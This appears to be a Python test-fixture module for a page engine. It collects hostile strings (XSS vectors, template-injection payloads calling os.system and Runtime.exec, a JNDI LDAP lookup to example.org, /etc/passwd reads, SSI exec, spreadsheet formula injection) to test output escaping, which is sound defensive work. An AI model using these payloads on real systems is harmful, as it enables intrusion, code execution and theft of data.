# Three public collections of attacks on pages, and our own on the places where this engine puts
# text: scripts of JSON, SVG, templates, Markdown, XML, addresses. Continuous integration takes a
# part that has every tag, handler, scheme and pair of signs at least once; `HOSTILE=all` takes all.
"""Strings that try to become more than text."""

from __future__ import annotations

import json
import os
import re
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Final

CORPORA: Final = Path(__file__).parent / "corpora/files"
OWN: Final = (
    "</script><script>window.P=1</script><!--",
    '"</style></textarea></title><svg onload=alert(1)>',
    "'><script>alert(1)</script>&amp;&lt;img src=x onerror=alert(1)&gt;",
    '<script>alert(1)</script>" onmouseover="x\' {{ config }} {% raw %} `a` *b* <!-- c -->',
    "]]><script>alert(1)</script><![CDATA[",
    '</desc></title></svg><img src=x onerror="alert(1)">',
    "&#60;script&#62;alert(1)&#60;/script&#62; &#x3c;img src=x onerror=alert(1)&#x3e;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\x3cimg src=x onerror=alert(1)\\x3e",
    "[x](javascript:alert(1)) [x]: javascript:alert(1) <javascript:alert(1)>",
    "![x](https://example.org/x.png) [x](data:text/html,<script>alert(1)</script>)",
    "--- title: x --- {: onclick=alert(1) } !!python/object/apply:os.system [x]",
    "datum.a + event.view.alert(1) constructor.constructor('alert(1)')()",
    "url(https://example.org/x.png) } body { display: none } @import '//example.org/x.css';",
    "//example.org/x \\\\example.org\\x https:example.org /../../../etc/passwd file:///etc/passwd",
    '=HYPERLINK("https://example.org","x") +cmd|\' /C calc\'!A0 @SUM(1+1)*cmd -2+3',
    "__proto__ constructor hasOwnProperty toString valueOf",
    '<meta http-equiv="refresh" content="0;url=https://example.org/"><base href="//example.org/">',
    '<form action="//example.org/"><button formaction="javascript:alert(1)">x</button></form>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><object data="//example.org/x">',
    "<link rel=stylesheet href=//example.org/x.css><video src=//example.org/x poster=//x.org>",
)
TEMPLATES: Final = (
    "{{6*7}} {{ 6*'7' }} {{ config }} {{ self }} {{ nav }} {{ page.content }} {{- 6*7 -}}",
    "{% for x in [6] %}{{ x*7 }}{% endfor %} {%- set y = 6*7 -%}{{ y }} {# hidden #}",
    "{% endraw %}{% endblock %}{{ 6*7 }}{% block content %}x{% endblock %}{% raw %}",
    "{{ ''.__class__.__base__.__subclasses__() }} {{ [].class.base.subclasses() }}",
    "{{ lipsum.__globals__['os'].system('id') }} {{ cycler.__init__.__globals__.os.popen('id') }}",
    "{{ request|attr('\\x5f\\x5fclass\\x5f\\x5f') }} {{ config.items()|list|safe }}",
    "{% include '/etc/passwd' %} {% extends 'main.html' %} {% import 'os' as os %}",
    "{{ macros_info() }} {{ fix_url('javascript:alert(1)') }} {{ '<svg onload=alert(1)>'|safe }}",
    "${6*7} ${{6*7}} #{6*7} *{6*7} @{6*7} ~{6*7} __${6*7}__::.x ${jndi:ldap://example.org/x}",
    "${T(java.lang.Runtime).getRuntime().exec('id')} ${self.module.cache.util.os.system('id')}",
    "<%= 6*7 %> <%- 6*7 %> <% import os; os.system('id') %> <%! x = 1 %> <%include file='/x'/>",
    "<#assign x='id'?eval><#list 1..7 as n>${n}</#list> [#if true]x[/#if] ${'x'?new()}",
    "#set($x=6*7)$x ${x} $!x $class.inspect('java.lang.Runtime') #include('/etc/passwd')",
    "{php}system('id');{/php} {$smarty.version} {if system('id')}{/if} {literal}x{/literal}",
    "{{['id']|filter('system')|join}} {{ _self.env.display('x') }} {{ dump(app) }}",
    '@(6*7) @{ var x = 6*7; } @System.IO.File.ReadAllText("x") @Html.Raw("<b>x</b>")',
    "{{#with (lookup this 'constructor')}}{{this}}{{/with}} {{{ x }}} {{> part}} {{&x}} {{!x}}",
    "{{constructor.constructor('alert(1)')()}} {{$on.constructor('alert(1)')()}} [[6*7]]",
    '<div v-html="alert(1)" ng-init="alert(1)" x-data="alert(1)" :x="alert(1)">{{6*7}}</div>',
    '{{ printf "%s" .Env }} {{ define "x" }}x{{ end }} {{ template "x" }} {{ .System "id" }}',
    "{{ 'x' | append: 'y' }} {% assign x = 6 | times: 7 %}{{ x }} {% render 'x' %}",
    "<?= 6*7 ?> <?php system('id'); ?> <?xml-stylesheet href='//example.org/x.css'?>",
    '--8<-- "mkdocs.yml" ;--8<-- :::silkline.build [TOC] [[_TOC_]] !!! note [^1] *[x]: y',
    "<!-- silkline:headlines --> <!-- silkline:nothing --> <!--more-->",
    '<!--#include file="/etc/passwd"--> <!--#exec cmd="id"--> <esi:include src=//example.org/>',
    "{0.__class__} {0!r:>9} {x!a} %(x)s %n $HOME ${HOME} `id` $(id) \\N{DIGIT ONE}",
)
"""Of what templates and other makers of pages are made; in braces a product, never 42."""
WHOLE: Final = os.environ.get("HOSTILE") == "all"
_HIDDEN: Final = frozenset({"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"})
_PAIR: Final = re.compile(r"(?=([^\w\s]{2}))", re.ASCII)
_FORMS: Final = tuple(
    re.compile(form)
    for form in (
        r"<[/!?%]?\s*[a-z0-9:]*",  # tags
        r"\bon[a-z]+",  # handlers
        r"\b[a-z]{2,12}:(?=\S)",  # schemes
        r"&[#a-z]{1,2}",  # references
    )
)


def corpora() -> dict[str, list[str]]:
    """All strings by the collection that they come from, in its order."""
    payloads = (CORPORA / "payloadbox-xss/xss-payload-list.txt").read_text("utf-8")
    cases = json.loads((CORPORA / "dompurify/expect.json").read_text("utf-8"))
    return {
        "own": [*OWN, *TEMPLATES],
        "payloadbox-xss": payloads.splitlines(),
        "blns": json.loads((CORPORA / "blns/blns.json").read_text("utf-8")),
        "dompurify": [case["payload"] for case in cases],
    }


def strings() -> list[str]:
    """Each string once; a part of them that has every class, unless all are asked for."""
    every = list(dict.fromkeys(text for found in corpora().values() for text in found if text))
    return every if WHOLE else list(_part(every))


def _part(every: list[str]) -> Iterator[str]:
    """Our own strings, and each other that has something that none before it had."""
    met: set[str] = set()
    own = {*OWN, *TEMPLATES}
    for text in sorted(every, key=lambda text: (text not in own, len(text), text)):
        new = set(_classes(text)) - met
        if new or text in own:
            met |= new
            yield text


def _classes(text: str) -> Iterator[str]:
    """What a string is made of: tags, handlers, schemes, references, and pairs of signs."""
    lower = text.lower()
    for number, form in enumerate(_FORMS):
        yield from (f"{number} {found}" for found in form.findall(lower))
    yield from _PAIR.findall(lower)


def seen(text: str) -> str:
    """A string on one line, without the characters for which every table is refused."""
    plain = "".join(" " if c.isspace() else c for c in text)
    plain = "".join(c for c in plain if unicodedata.category(c) not in _HIDDEN)
    return " ".join(plain.split())


def pieces(texts: list[str], characters: int) -> list[str]:
    """The strings, many in one text of about so many characters; no string is cut."""
    made = [""]
    for text in filter(None, map(seen, texts)):
        if len(made[-1]) + len(text) > characters:
            made.append("")
        made[-1] += f" {text}" if made[-1] else text
    return made
